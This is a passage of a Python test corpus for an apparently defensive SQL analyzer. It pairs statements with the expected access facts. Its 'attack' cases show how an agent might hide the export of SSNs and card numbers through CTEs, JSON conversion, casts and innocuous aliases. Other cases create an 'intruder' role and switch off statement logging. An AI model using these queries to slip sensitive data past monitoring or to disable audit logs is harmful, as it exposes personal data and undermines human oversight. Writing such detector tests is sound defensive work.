"""The statement corpus: SQL with the facts the analyzer must produce for it, exactly.

A compact notation, expanded by :func:`expected_facts`:

- ``rel``: space-separated ``name[(kind)][/access]``; a name without a dot is in
  ``public``; kind defaults to ``table``, access to ``read``.
- ``cols``: space-separated ``relation.column:usage`` (relation as above).
- ``out``: ``;``-separated ``name = src, src`` (a direct column) or ``name ~ src, src``
  (computed); sources as ``relation.column``.
- ``star``: space-separated relations; ``fn``: space-separated functions, ``pg_catalog.``
  when unqualified.
- ``nested``: the commands of the nested statements, in order.
- ``attack``: written as an agent would hide an export or a sensitive column.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any

from pgwarden.proxy.analysis import catalog_of

CATALOG = catalog_of(
    {
        "public.customers": ["id", "full_name", "email", "phone", "ssn", "created_at"],
        "public.orders": ["id", "customer_id", "total", "status", "created_at"],
        "public.payments": ["id", "order_id", "card_number", "amount"],
        "analytics.daily_sales": ["day", "total"],
        "pg_catalog.pg_authid": ["oid", "rolname", "rolpassword"],
        # an inheritance child of customers (a partition would be the same)
        "public.customers_archive": [
            "id",
            "full_name",
            "email",
            "phone",
            "ssn",
            "created_at",
            "archived_at",
        ],
    },
    views={
        "public.customer_contacts": (
            ["id", "name", "email"],
            "SELECT c.id, c.full_name AS name, c.email FROM public.customers c",
        ),
        "public.vip_contacts": (
            ["name", "email"],
            "SELECT v.name, v.email FROM public.customer_contacts v WHERE v.id < 100",
        ),
        "public.order_summary": (
            ["customer_id", "order_count", "revenue"],
            "SELECT o.customer_id, count(*) AS order_count, sum(o.total) AS revenue"
            " FROM public.orders o GROUP BY o.customer_id",
        ),
    },
    inherits={"public.customers_archive": ["public.customers"]},
)

_VIEWS = {"customer_contacts", "vip_contacts", "order_summary"}


@dataclass(frozen=True)
class Case:
    sql: str
    cmd: str = "SELECT"
    ro: bool = True
    rel: str = ""
    cols: str = ""
    out: str = ""
    star: str = ""
    fn: str = ""
    copy: dict[str, Any] | None = None
    limit: int | None = None
    where: bool = False
    set: dict[str, Any] | None = None
    nested: tuple[str, ...] = ()
    unresolved: bool = False
    norm: str | None = None
    setup: tuple[str, ...] = ()
    protocol: str = "simple"
    attack: bool = False
    limit_param: int | None = None
    search_path: str = '"$user", public'
    extra: dict[str, Any] = field(default_factory=dict)


def _qualify(name: str) -> str:
    return name if "." in name else f"public.{name}"


def _relation(spec: str) -> dict[str, str]:
    access = "read"
    if "/" in spec:
        spec, access = spec.split("/", 1)
    kind = None
    if "(" in spec:
        spec, kind = spec[:-1].split("(", 1)
    name = _qualify(spec)
    if kind is None:
        kind = "view" if spec in _VIEWS else "table"
    schema, _, relname = name.partition(".")
    return {"schema": schema, "name": relname, "kind": kind, "access": access}


def _column(spec: str) -> dict[str, str]:
    path, usage = spec.rsplit(":", 1)
    relation, _, column = path.rpartition(".")
    return {"relation": _qualify(relation), "column": column, "usage": usage}


def _source(spec: str) -> str:
    relation, _, column = spec.strip().rpartition(".")
    return f"{_qualify(relation)}.{column}"


def _output(spec: str) -> dict[str, Any]:
    direct = " = " in f" {spec} " and "~" not in spec
    name, _, sources = spec.partition("=" if direct else "~")
    return {
        "name": name.strip(),
        "sources": sorted(_source(s) for s in sources.split(",") if s.strip()),
        "direct": direct,
    }


def expected_facts(case: Case) -> dict[str, Any]:
    """Everything the analyzer must say about the case, except fingerprint and
    (unless the case gives it) sql_normalized; nested statements by command."""
    return {
        "command": case.cmd,
        "protocol": case.protocol,
        "read_only": case.ro,
        "relations": sorted(
            (_relation(s) for s in case.rel.split()),
            key=lambda r: (r["schema"], r["name"], r["kind"], r["access"]),
        ),
        "columns": sorted(
            (_column(s) for s in case.cols.split()),
            key=lambda c: (c["relation"], c["column"], c["usage"]),
        ),
        "outputs": [_output(s) for s in case.out.split(";") if s.strip()],
        "star": sorted(_qualify(s) for s in case.star.split()),
        "functions": sorted(f if "." in f else f"pg_catalog.{f}" for f in case.fn.split()),
        "copy": case.copy,
        "limit": case.limit,
        "has_where": case.where,
        "set": case.set,
        "nested": list(case.nested),
        "unresolved": case.unresolved,
    }


ALL_CUSTOMERS = (
    "customers.id:output customers.full_name:output customers.email:output"
    " customers.phone:output customers.ssn:output customers.created_at:output"
)
ALL_CUSTOMERS_OUT = (
    "id = customers.id; full_name = customers.full_name; email = customers.email;"
    " phone = customers.phone; ssn = customers.ssn; created_at = customers.created_at"
)
CUSTOMER_ROW = (
    "customers.id, customers.full_name, customers.email, customers.phone,"
    " customers.ssn, customers.created_at"
)
ALL_PAYMENTS = (
    "payments.id:output payments.order_id:output payments.card_number:output payments.amount:output"
)


def _copy(direction: str, target: str, relation: str = "", query: bool = False) -> dict[str, Any]:
    return {
        "direction": direction,
        "target": target,
        "relation": _qualify(relation) if relation else "",
        "query": query,
    }


CASES: list[Case] = [
    # ------------------------------------------------------------------ plain reads
    Case(
        "SELECT email FROM customers WHERE id = 42",
        rel="customers",
        cols="customers.email:output customers.id:filter",
        out="email = customers.email",
        where=True,
        norm="SELECT email FROM customers WHERE id = $1",
    ),
    Case(
        "select id, full_name from customers limit 10",
        rel="customers",
        cols="customers.id:output customers.full_name:output",
        out="id = customers.id; full_name = customers.full_name",
        limit=10,
        norm="select id, full_name from customers limit $1",
    ),
    Case(
        "SELECT * FROM customers",
        rel="customers",
        cols=ALL_CUSTOMERS,
        out=ALL_CUSTOMERS_OUT,
        star="customers",
    ),
    Case(
        "SELECT c.* FROM customers c",
        rel="customers",
        cols=ALL_CUSTOMERS,
        out=ALL_CUSTOMERS_OUT,
        star="customers",
    ),
    Case(
        "SELECT public.customers.email FROM public.customers",
        rel="customers",
        cols="customers.email:output",
        out="email = customers.email",
    ),
    Case(
        "SELECT count(*) FROM orders",
        rel="orders",
        out="count ~",
        fn="count",
    ),
    Case(
        "SELECT status, count(*) AS n, sum(total) FROM orders GROUP BY status ORDER BY n DESC",
        rel="orders",
        cols="orders.status:output orders.status:group orders.total:output",
        out="status = orders.status; n ~; sum ~ orders.total",
        fn="count sum",
    ),
    Case(
        "SELECT customer_id FROM orders GROUP BY customer_id HAVING sum(total) > 1000",
        rel="orders",
        cols="orders.customer_id:output orders.customer_id:group orders.total:filter",
        out="customer_id = orders.customer_id",
        fn="sum",
    ),
    Case(
        "SELECT DISTINCT status FROM orders",
        rel="orders",
        cols="orders.status:output orders.status:group",
        out="status = orders.status",
    ),
    Case(
        "SELECT DISTINCT ON (customer_id) customer_id, total FROM orders ORDER BY "
        "customer_id, created_at DESC",
        rel="orders",
        cols="orders.customer_id:output orders.customer_id:group orders.customer_id:order"
        " orders.total:output orders.created_at:order",
        out="customer_id = orders.customer_id; total = orders.total",
    ),
    Case(
        "SELECT id FROM orders WHERE created_at > now() - interval '1 day' ORDER BY "
        "created_at LIMIT 50 OFFSET 100",
        rel="orders",
        cols="orders.id:output orders.created_at:filter orders.created_at:order",
        out="id = orders.id",
        fn="now",
        limit=50,
        where=True,
        norm="SELECT id FROM orders WHERE created_at > now() - interval $1 ORDER BY "
        "created_at LIMIT $2 OFFSET $3",
    ),
    Case(
        "SELECT id FROM orders FETCH FIRST 5 ROWS ONLY",
        rel="orders",
        cols="orders.id:output",
        out="id = orders.id",
        limit=5,
    ),
    Case(
        "SELECT id FROM orders LIMIT ALL",
        rel="orders",
        cols="orders.id:output",
        out="id = orders.id",
    ),
    Case("SELECT 1", out="?column? ~", norm="SELECT $1"),
    Case("SELECT now()", out="now ~", fn="now"),
    Case("SELECT current_user", out="current_user ~"),
    Case("SELECT version()", out="version ~", fn="version"),
    Case(
        "SELECT lower(email) AS e FROM customers WHERE email ILIKE '%@example.com'",
        rel="customers",
        cols="customers.email:output customers.email:filter",
        out="e ~ customers.email",
        fn="lower",
        where=True,
    ),
    Case(
        "SELECT id, total * 1.2 AS gross FROM orders WHERE status IN ('open', 'paid')",
        rel="orders",
        cols="orders.id:output orders.total:output orders.status:filter",
        out="id = orders.id; gross ~ orders.total",
        where=True,
        norm="SELECT id, total * $1 AS gross FROM orders WHERE status IN ($2, $3)",
    ),
    Case(
        "SELECT o.id, c.full_name FROM orders o JOIN customers c ON c.id = o.customer_id",
        rel="customers orders",
        cols="orders.id:output customers.full_name:output customers.id:join "
        "orders.customer_id:join",
        out="id = orders.id; full_name = customers.full_name",
    ),
    Case(
        "SELECT o.id, p.amount FROM orders o LEFT JOIN payments p ON p.order_id = o.id WHERE "
        "p.id IS NULL",
        rel="orders payments",
        cols="orders.id:output payments.amount:output payments.order_id:join orders.id:join"
        " payments.id:filter",
        out="id = orders.id; amount = payments.amount",
        where=True,
    ),
    Case(
        "SELECT status FROM orders JOIN payments USING (id)",
        rel="orders payments",
        cols="orders.status:output orders.id:join payments.id:join",
        out="status = orders.status",
    ),
    Case(
        "SELECT * FROM customers NATURAL JOIN orders",
        rel="customers orders",
        cols="customers.id:join orders.id:join customers.created_at:join orders.created_at:join"
        " customers.id:output orders.id:output customers.created_at:output"
        " orders.created_at:output customers.full_name:output customers.email:output"
        " customers.phone:output customers.ssn:output orders.customer_id:output"
        " orders.total:output orders.status:output",
        out="id = customers.id, orders.id; created_at = customers.created_at, orders.created_at;"
        " full_name = customers.full_name; email = customers.email; phone = customers.phone;"
        " ssn = customers.ssn; customer_id = orders.customer_id; total = orders.total;"
        " status = orders.status",
        star="customers orders",
    ),
    Case(
        "SELECT id, o.id AS order_id FROM customers c FULL JOIN orders o USING (id)",
        rel="customers orders",
        cols="customers.id:join orders.id:join customers.id:output orders.id:output",
        out="id ~ customers.id, orders.id; order_id = orders.id",
    ),
    Case(
        "SELECT count(*) FROM orders o, payments p WHERE p.order_id = o.id",
        rel="orders payments",
        cols="payments.order_id:filter orders.id:filter",
        out="count ~",
        fn="count",
        where=True,
    ),
    Case(
        "SELECT id, rank() OVER (PARTITION BY customer_id ORDER BY total DESC) FROM orders",
        rel="orders",
        cols="orders.id:output orders.customer_id:group orders.total:order",
        out="id = orders.id; rank ~",
        fn="rank",
    ),
    Case(
        "SELECT id FROM orders WHERE customer_id IN (SELECT id FROM customers WHERE email "
        "LIKE 'a%')",
        rel="customers orders",
        cols="orders.id:output orders.customer_id:filter customers.id:filter "
        "customers.email:filter",
        out="id = orders.id",
        where=True,
    ),
    Case(
        "SELECT id FROM orders o WHERE EXISTS (SELECT 1 FROM payments p WHERE p.order_id = o.id)",
        rel="orders payments",
        cols="orders.id:output orders.id:filter payments.order_id:filter",
        out="id = orders.id",
        where=True,
    ),
    Case(
        "SELECT id FROM customers UNION SELECT customer_id FROM orders",
        rel="customers orders",
        cols="customers.id:output orders.customer_id:output customers.id:group"
        " orders.customer_id:group",
        out="id = customers.id, orders.customer_id",
    ),
    Case(
        "SELECT id FROM customers EXCEPT SELECT customer_id FROM orders WHERE total > 0",
        rel="customers orders",
        cols="customers.id:output orders.customer_id:output orders.total:filter"
        " customers.id:group orders.customer_id:group",
        out="id = customers.id, orders.customer_id",
    ),
    Case(
        "SELECT day, total FROM analytics.daily_sales ORDER BY 1",
        rel="analytics.daily_sales",
        cols="analytics.daily_sales.day:output analytics.daily_sales.day:order"
        " analytics.daily_sales.total:output",
        out="day = analytics.daily_sales.day; total = analytics.daily_sales.total",
    ),
    Case(
        "SELECT * FROM customer_contacts",
        rel="customer_contacts customers",
        cols="customers.id:output customers.full_name:output customers.email:output",
        out="id = customers.id; name = customers.full_name; email = customers.email",
        star="customer_contacts",
    ),
    Case(
        "SELECT * FROM order_summary WHERE revenue > 100",
        rel="order_summary orders",
        cols="orders.customer_id:output orders.customer_id:group orders.total:output"
        " orders.total:filter",
        out="customer_id = orders.customer_id; order_count ~; revenue ~ orders.total",
        star="order_summary",
        fn="count sum",
        where=True,
    ),
    Case(
        "VALUES (1, 'a'), (2, 'b')",
        out="column1 ~; column2 ~",
        norm="VALUES ($1, $2), ($3, $4)",
    ),
    Case(
        "SELECT x FROM generate_series(1, 10) AS x",
        out="x ~",
        fn="generate_series",
    ),
    Case(
        "SELECT id FROM customers WHERE id = $1",
        protocol="extended",
        rel="customers",
        cols="customers.id:output customers.id:filter",
        out="id = customers.id",
        where=True,
        norm="SELECT id FROM customers WHERE id = $1",
    ),
    Case(
        "SELECT id, email FROM customers WHERE created_at > $1 LIMIT $2",
        protocol="extended",
        rel="customers",
        cols="customers.id:output customers.email:output customers.created_at:filter",
        out="id = customers.id; email = customers.email",
        where=True,
        limit_param=2,
    ),
    Case(
        "SELECT id FROM customers WHERE id = $1 AND full_name = 'x' LIMIT 3",
        protocol="extended",
        rel="customers",
        cols="customers.id:output customers.id:filter customers.full_name:filter",
        out="id = customers.id",
        where=True,
        limit=3,
        norm="SELECT id FROM customers WHERE id = $1 AND full_name = $2 LIMIT $3",
    ),
    Case(
        "SELECT c.id FROM customers c -- the comment 'secret' goes\nWHERE c.id = 1 /* and this */",
        rel="customers",
        cols="customers.id:output customers.id:filter",
        out="id = customers.id",
        where=True,
        norm="SELECT c.id FROM customers c WHERE c.id = $1",
    ),
    Case(
        "SELECT id FROM customers ORDER BY full_name, 1",
        rel="customers",
        cols="customers.id:output customers.id:order customers.full_name:order",
        out="id = customers.id",
    ),
    Case(
        "SELECT email AS contact FROM customers ORDER BY contact",
        rel="customers",
        cols="customers.email:output customers.email:order",
        out="contact = customers.email",
    ),
    Case(
        "SELECT id FROM orders WHERE total BETWEEN 10 AND 20 AND status IS NOT NULL",
        rel="orders",
        cols="orders.id:output orders.total:filter orders.status:filter",
        out="id = orders.id",
        where=True,
    ),
    Case(
        "SELECT greatest(total, 0) FROM orders",
        rel="orders",
        cols="orders.total:output",
        out="greatest ~ orders.total",
    ),
    Case(
        "SELECT o.id FROM orders o WHERE o.total > (SELECT avg(total) FROM orders)",
        rel="orders",
        cols="orders.id:output orders.total:filter",
        out="id = orders.id",
        fn="avg",
        where=True,
    ),
    Case(
        "SELECT id FROM customers FOR UPDATE",
        cmd="SELECT FOR UPDATE",
        ro=False,
        rel="customers",
        cols="customers.id:output",
        out="id = customers.id",
    ),
    Case(
        "SELECT rolname FROM pg_authid",
        rel="pg_catalog.pg_authid",
        cols="pg_catalog.pg_authid.rolname:output",
        out="rolname = pg_catalog.pg_authid.rolname",
    ),
    Case(
        "SELECT relname FROM pg_class",
        rel="pg_catalog.pg_class(unknown)",
        cols="pg_catalog.pg_class.relname:output",
        out="relname = pg_catalog.pg_class.relname",
    ),
    Case(
        "SELECT * FROM mystery",
        rel="mystery(unknown)",
        cols="mystery.*:output",
        out="* = mystery.*",
        star="mystery",
    ),
    # ------------------------------------------------------------------ writes
    Case(
        "INSERT INTO orders (customer_id, total, status) VALUES (1, 9.99, 'open')",
        cmd="INSERT",
        ro=False,
        rel="orders/write",
        cols="orders.customer_id:write orders.total:write orders.status:write",
        norm="INSERT INTO orders (customer_id, total, status) VALUES ($1, $2, $3)",
    ),
    Case(
        "INSERT INTO orders VALUES (1, 2, 3.0, 'x', now())",
        cmd="INSERT",
        ro=False,
        rel="orders/write",
        cols="orders.id:write orders.customer_id:write orders.total:write orders.status:write"
        " orders.created_at:write",
        fn="now",
    ),
    Case(
        "INSERT INTO orders (customer_id, total) VALUES ($1, $2) RETURNING id",
        cmd="INSERT",
        ro=False,
        protocol="extended",
        rel="orders/write",
        cols="orders.customer_id:write orders.total:write orders.id:output",
        out="id = orders.id",
    ),
    Case(
        "INSERT INTO orders (id, status) VALUES (1, 'a') ON CONFLICT (id) DO UPDATE SET "
        "status = excluded.status",
        cmd="INSERT",
        ro=False,
        rel="orders/write",
        cols="orders.id:write orders.status:write orders.id:filter orders.status:output",
    ),
    Case(
        "INSERT INTO orders (id) VALUES (1) ON CONFLICT DO NOTHING",
        cmd="INSERT",
        ro=False,
        rel="orders/write",
        cols="orders.id:write",
    ),
    Case(
        "UPDATE orders SET status = 'shipped' WHERE id = 7",
        cmd="UPDATE",
        ro=False,
        rel="orders/write",
        cols="orders.status:write orders.id:filter",
        where=True,
    ),
    Case(
        "UPDATE orders SET total = total * 2",
        cmd="UPDATE",
        ro=False,
        rel="orders/write",
        cols="orders.total:write orders.total:output",
    ),
    Case(
        "UPDATE orders o SET status = 'vip' FROM customers c WHERE c.id = o.customer_id AND "
        "c.email LIKE '%@corp'",
        cmd="UPDATE",
        ro=False,
        rel="orders/write customers",
        cols="orders.status:write customers.id:filter orders.customer_id:filter"
        " customers.email:filter",
        where=True,
    ),
    Case(
        "DELETE FROM orders WHERE status = 'cancelled'",
        cmd="DELETE",
        ro=False,
        rel="orders/write",
        cols="orders.status:filter",
        where=True,
    ),
    Case(
        "DELETE FROM orders",
        cmd="DELETE",
        ro=False,
        rel="orders/write",
    ),
    Case(
        "DELETE FROM orders o USING customers c WHERE o.customer_id = c.id AND c.id = 3 "
        "RETURNING o.id",
        cmd="DELETE",
        ro=False,
        rel="orders/write customers",
        cols="orders.customer_id:filter customers.id:filter orders.id:output",
        out="id = orders.id",
        where=True,
    ),
    Case(
        "MERGE INTO orders o USING (SELECT 1 AS id) s ON o.id = s.id"
        " WHEN MATCHED THEN UPDATE SET status = 'merged'"
        " WHEN NOT MATCHED THEN INSERT (id, status) VALUES (s.id, 'new')",
        cmd="MERGE",
        ro=False,
        rel="orders/write",
        cols="orders.id:join orders.status:write orders.id:write",
    ),
    Case(
        "TRUNCATE orders",
        cmd="TRUNCATE TABLE",
        ro=False,
        rel="orders/write",
    ),
    Case(
        "COPY orders FROM STDIN",
        cmd="COPY",
        ro=False,
        rel="orders/write",
        cols="orders.id:write orders.customer_id:write orders.total:write orders.status:write"
        " orders.created_at:write",
        star="orders",
        copy=_copy("from", "stdin", "orders"),
    ),
    Case(
        "COPY orders (id, status) FROM '/tmp/orders.csv' WITH (FORMAT csv)",
        cmd="COPY",
        ro=False,
        rel="orders/write",
        cols="orders.id:write orders.status:write",
        copy=_copy("from", "file", "orders"),
        norm="COPY orders (id, status) FROM $1 WITH (FORMAT csv)",
    ),
    Case(
        "COPY orders (id, total) TO STDOUT WITH (FORMAT csv, HEADER)",
        cmd="COPY",
        rel="orders",
        cols="orders.id:output orders.total:output",
        out="id = orders.id; total = orders.total",
        copy=_copy("to", "stdout", "orders"),
    ),
    Case(
        "LOCK TABLE orders IN ACCESS EXCLUSIVE MODE",
        cmd="LOCK TABLE",
        ro=False,
        rel="orders/write",
    ),
    # ------------------------------------------------------------------ DDL
    Case(
        "CREATE TABLE notes (id int PRIMARY KEY, body text DEFAULT 'none')",
        cmd="CREATE TABLE",
        ro=False,
        rel="notes/ddl",
        norm="CREATE TABLE notes (id int PRIMARY KEY, body text DEFAULT $1)",
    ),
    Case(
        "CREATE TEMP TABLE scratch (x int)",
        cmd="CREATE TABLE",
        ro=False,
        rel="pg_temp.scratch/ddl",
    ),
    Case(
        "CREATE TABLE analytics.t (x int)",
        cmd="CREATE TABLE",
        ro=False,
        rel="analytics.t/ddl",
    ),
    Case(
        "ALTER TABLE customers ADD COLUMN nickname text",
        cmd="ALTER TABLE",
        ro=False,
        rel="customers/ddl",
    ),
    Case(
        "ALTER TABLE orders ADD CONSTRAINT fk FOREIGN KEY (customer_id) REFERENCES customers (id)",
        cmd="ALTER TABLE",
        ro=False,
        rel="orders/ddl customers/ddl",
    ),
    Case(
        "DROP TABLE IF EXISTS payments CASCADE",
        cmd="DROP TABLE",
        ro=False,
        rel="payments/ddl",
    ),
    Case(
        "DROP VIEW customer_contacts",
        cmd="DROP VIEW",
        ro=False,
        rel="customer_contacts/ddl",
    ),
    Case(
        "CREATE INDEX orders_status_idx ON orders (status)",
        cmd="CREATE INDEX",
        ro=False,
        rel="orders/ddl",
    ),
    Case(
        "DROP INDEX orders_status_idx",
        cmd="DROP INDEX",
        ro=False,
        rel="orders_status_idx(index)/ddl",
    ),
    Case(
        "CREATE SCHEMA staging",
        cmd="CREATE SCHEMA",
        ro=False,
    ),
    Case(
        "CREATE SEQUENCE order_ids",
        cmd="CREATE SEQUENCE",
        ro=False,
        rel="order_ids(unknown)/ddl",
    ),
    Case(
        "ALTER TABLE customers RENAME COLUMN phone TO mobile",
        cmd="ALTER TABLE",
        ro=False,
        rel="customers/ddl",
    ),
    Case(
        "COMMENT ON TABLE customers IS 'people'",
        cmd="COMMENT",
        ro=False,
        norm="COMMENT ON TABLE customers IS $1",
    ),
    Case(
        "CREATE ROLE intruder LOGIN PASSWORD 'hunter2'",
        cmd="CREATE ROLE",
        ro=False,
        norm="CREATE ROLE intruder LOGIN PASSWORD $1",
    ),
    Case(
        "ALTER ROLE app SET search_path = analytics",
        cmd="ALTER ROLE",
        ro=False,
        norm="ALTER ROLE app SET search_path = $1",
    ),
    Case(
        "ALTER SYSTEM SET log_statement = 'none'",
        cmd="ALTER SYSTEM",
        ro=False,
        norm="ALTER SYSTEM SET log_statement = $1",
    ),
    Case(
        "CREATE EXTENSION IF NOT EXISTS dblink",
        cmd="CREATE EXTENSION",
        ro=False,
    ),
    Case(
        "CREATE VIEW big_orders AS SELECT id, total FROM orders WHERE total > 1000",
        cmd="CREATE VIEW",
        ro=False,
        rel="big_orders(view)/ddl orders",
        cols="orders.id:output orders.total:output orders.total:filter",
        nested=("SELECT",),
    ),
    Case(
        "CREATE MATERIALIZED VIEW mv AS SELECT email FROM customers WITH NO DATA",
        cmd="CREATE MATERIALIZED VIEW",
        ro=False,
        rel="mv(materialized_view)/ddl mv(materialized_view)/write customers",
        cols="customers.email:output",
        nested=("SELECT",),
    ),
    Case(
        "REFRESH MATERIALIZED VIEW mv",
        cmd="REFRESH MATERIALIZED VIEW",
        ro=False,
        rel="mv(materialized_view)/write",
    ),
    Case(
        "CREATE TRIGGER t BEFORE INSERT ON orders FOR EACH ROW EXECUTE FUNCTION audit()",
        cmd="CREATE TRIGGER",
        ro=False,
        rel="orders/ddl",
    ),
    Case(
        "CREATE POLICY p ON customers USING (id = current_setting('app.id')::int)",
        cmd="CREATE POLICY",
        ro=False,
        rel="customers/ddl",
        fn="current_setting",
    ),
    # ------------------------------------------------------------------ utility
    Case(
        "SET statement_timeout = '5s'",
        cmd="SET",
        set={"kind": "set", "name": "statement_timeout", "local": False},
        norm="SET statement_timeout = $1",
    ),
    Case(
        "SET LOCAL work_mem TO 65536",
        cmd="SET",
        set={"kind": "set", "name": "work_mem", "local": True},
        norm="SET LOCAL work_mem TO $1",
    ),
    Case(
        "SET ROLE admin",
        cmd="SET",
        set={"kind": "set_role", "name": "role", "local": False},
        norm="SET ROLE $1",
    ),
    Case(
        "SET SESSION AUTHORIZATION postgres",
        cmd="SET",
        set={"kind": "set_session_authorization", "name": "session_authorization", "local": False},
        norm="SET SESSION AUTHORIZATION $1",
    ),
    Case(
        "RESET ROLE",
        cmd="RESET",
        set={"kind": "reset", "name": "role", "local": False},
    ),
    Case(
        "RESET ALL",
        cmd="RESET",
        set={"kind": "reset", "name": "all", "local": False},
    ),
    Case(
        "SET search_path TO analytics, public",
        cmd="SET",
        set={"kind": "set", "name": "search_path", "local": False},
        norm="SET search_path TO $1, $2",
    ),
    Case("SHOW search_path", cmd="SHOW", out="search_path ~"),
    Case("BEGIN", cmd="BEGIN"),
    Case("START TRANSACTION ISOLATION LEVEL SERIALIZABLE", cmd="START TRANSACTION"),
    Case("COMMIT", cmd="COMMIT"),
    Case("ROLLBACK", cmd="ROLLBACK"),
    Case("SAVEPOINT s1", cmd="SAVEPOINT"),
    Case("ROLLBACK TO SAVEPOINT s1", cmd="ROLLBACK"),
    Case("RELEASE SAVEPOINT s1", cmd="RELEASE"),
    Case("PREPARE TRANSACTION 'tx1'", cmd="PREPARE TRANSACTION", ro=False),
    Case(
        "GRANT SELECT ON customers TO reporting",
        cmd="GRANT",
        ro=False,
        rel="customers/ddl",
    ),
    Case(
        "REVOKE ALL ON payments FROM PUBLIC",
        cmd="REVOKE",
        ro=False,
        rel="payments/ddl",
    ),
    Case("GRANT admin TO intruder", cmd="GRANT ROLE", ro=False),
    Case("VACUUM ANALYZE orders", cmd="VACUUM", ro=False, rel="orders/ddl"),
    Case("ANALYZE customers", cmd="ANALYZE", ro=False, rel="customers/ddl"),
    Case("CHECKPOINT", cmd="CHECKPOINT", ro=False),
    Case("LISTEN jobs", cmd="LISTEN"),
    Case("NOTIFY jobs, 'payload'", cmd="NOTIFY", ro=False, norm="NOTIFY jobs, $1"),
    Case("DISCARD ALL", cmd="DISCARD ALL"),
    Case("DEALLOCATE ALL", cmd="DEALLOCATE ALL"),
    Case("CLOSE ALL", cmd="CLOSE CURSOR ALL"),
    Case("CALL refresh_stats(1)", cmd="CALL", ro=False, fn="refresh_stats"),
    Case(
        "EXPLAIN SELECT id FROM orders",
        cmd="EXPLAIN",
        rel="orders",
        cols="orders.id:output",
        nested=("SELECT",),
    ),
    Case(
        "EXPLAIN (COSTS OFF) UPDATE orders SET status = 'x'",
        cmd="EXPLAIN",
        ro=False,
        rel="orders/write",
        cols="orders.status:write",
        nested=("UPDATE",),
    ),
    Case(
        "PREPARE q (int) AS SELECT status FROM orders WHERE id = $1",
        cmd="PREPARE",
        rel="orders",
        cols="orders.status:output orders.id:filter",
        nested=("SELECT",),
    ),
    Case(
        "DECLARE cur CURSOR FOR SELECT id FROM orders",
        cmd="DECLARE CURSOR",
        rel="orders",
        cols="orders.id:output",
        nested=("SELECT",),
    ),
    Case(
        "FETCH 10 FROM cur",
        setup=("DECLARE cur CURSOR FOR SELECT id FROM orders",),
        cmd="FETCH",
        rel="orders",
        cols="orders.id:output",
        out="id = orders.id",
        limit=10,
        nested=("SELECT",),
    ),
    Case(
        "MOVE FORWARD 5 IN cur",
        setup=("DECLARE cur CURSOR FOR SELECT id FROM orders",),
        cmd="MOVE",
        rel="orders",
        cols="orders.id:output",
        nested=("SELECT",),
    ),
    Case(
        "EXECUTE q(5)",
        setup=("PREPARE q (int) AS SELECT status FROM orders WHERE id = $1",),
        cmd="EXECUTE",
        rel="orders",
        cols="orders.status:output orders.id:filter",
        out="status = orders.status",
        where=True,
        nested=("SELECT",),
    ),
    Case("CLOSE cur", cmd="CLOSE CURSOR"),
    Case("DEALLOCATE q", cmd="DEALLOCATE"),
    Case(
        "SELECT * FROM daily_sales",
        search_path="analytics, public",
        rel="analytics.daily_sales",
        cols="analytics.daily_sales.day:output analytics.daily_sales.total:output",
        out="day = analytics.daily_sales.day; total = analytics.daily_sales.total",
        star="analytics.daily_sales",
    ),
    Case(
        "SELECT total FROM daily_sales",
        setup=("SET search_path = analytics",),
        rel="analytics.daily_sales",
        cols="analytics.daily_sales.total:output",
        out="total = analytics.daily_sales.total",
    ),
    Case(
        "SELECT pg_sleep(1)",
        out="pg_sleep ~",
        fn="pg_sleep",
    ),
    Case(
        "SELECT set_config('statement_timeout', '0', true)",
        out="set_config ~",
        fn="set_config",
        set={"kind": "set_config", "name": "statement_timeout", "local": True},
        norm="SELECT set_config($1, $2, true)",
    ),
    # ------------------------------------------------------------------ attacks
    Case(
        "WITH x AS (SELECT ssn FROM customers) SELECT * FROM x",
        attack=True,
        rel="customers",
        cols="customers.ssn:output",
        out="ssn = customers.ssn",
    ),
    Case(
        "WITH a AS (SELECT card_number AS c FROM payments), b AS (SELECT c AS harmless FROM a)"
        " SELECT harmless FROM b",
        attack=True,
        rel="payments",
        cols="payments.card_number:output",
        out="harmless = payments.card_number",
    ),
    Case(
        "WITH RECURSIVE r(n, s) AS (SELECT 1, ssn FROM customers UNION ALL"
        " SELECT n + 1, s FROM r WHERE n < 3) SELECT s FROM r",
        attack=True,
        rel="customers",
        cols="customers.ssn:output",
        out="s = customers.ssn",
    ),
    Case(
        "SELECT (SELECT c2.ssn FROM customers c2 WHERE c2.id = c.id) AS x FROM customers c",
        attack=True,
        rel="customers",
        cols="customers.ssn:output customers.id:filter",
        out="x ~ customers.ssn",
    ),
    Case(
        "SELECT x FROM (SELECT ssn AS x, id FROM customers) s",
        attack=True,
        rel="customers",
        cols="customers.ssn:output",
        out="x = customers.ssn",
    ),
    Case(
        "SELECT s.x FROM (SELECT * FROM (SELECT card_number AS x FROM payments) a) s",
        attack=True,
        rel="payments",
        cols="payments.card_number:output",
        out="x = payments.card_number",
    ),
    Case(
        "SELECT row_to_json(c) FROM customers c",
        attack=True,
        rel="customers",
        cols=ALL_CUSTOMERS,
        out=f"row_to_json ~ {CUSTOMER_ROW}",
        star="customers",
        fn="row_to_json",
    ),
    Case(
        "SELECT to_jsonb(c.*) FROM customers AS c LIMIT 1",
        attack=True,
        rel="customers",
        cols=ALL_CUSTOMERS,
        out=f"to_jsonb ~ {CUSTOMER_ROW}",
        star="customers",
        fn="to_jsonb",
        limit=1,
    ),
    Case(
        "SELECT c::text FROM customers c",
        attack=True,
        rel="customers",
        cols=ALL_CUSTOMERS,
        out=f"c ~ {CUSTOMER_ROW}",
        star="customers",
    ),
    Case(
        "SELECT CAST(customers AS text) AS blob FROM customers",
        attack=True,
        rel="customers",
        cols=ALL_CUSTOMERS,
        out=f"blob ~ {CUSTOMER_ROW}",
        star="customers",
    ),
    Case(
        "SELECT json_agg(p) FROM payments p",
        attack=True,
        rel="payments",
        cols=ALL_PAYMENTS,
        out="json_agg ~ payments.id, payments.order_id, payments.card_number, payments.amount",
        star="payments",
        fn="json_agg",
    ),
    Case(
        "SELECT (c).ssn FROM customers c",
        attack=True,
        rel="customers",
        cols="customers.ssn:output",
        out="ssn ~ customers.ssn",
    ),
    Case(
        "SELECT (p).* FROM payments p",
        attack=True,
        rel="payments",
        cols=ALL_PAYMENTS,
        out="id ~ payments.id; order_id ~ payments.order_id;"
        " card_number ~ payments.card_number; amount ~ payments.amount",
        star="payments",
    ),
    Case(
        "SELECT ssn::varchar(20) AS ref FROM customers",
        attack=True,
        rel="customers",
        cols="customers.ssn:output",
        out="ref ~ customers.ssn",
        norm="SELECT ssn::varchar($1) AS ref FROM customers",
    ),
    Case(
        "SELECT upper(card_number) || '' AS note FROM payments",
        attack=True,
        rel="payments",
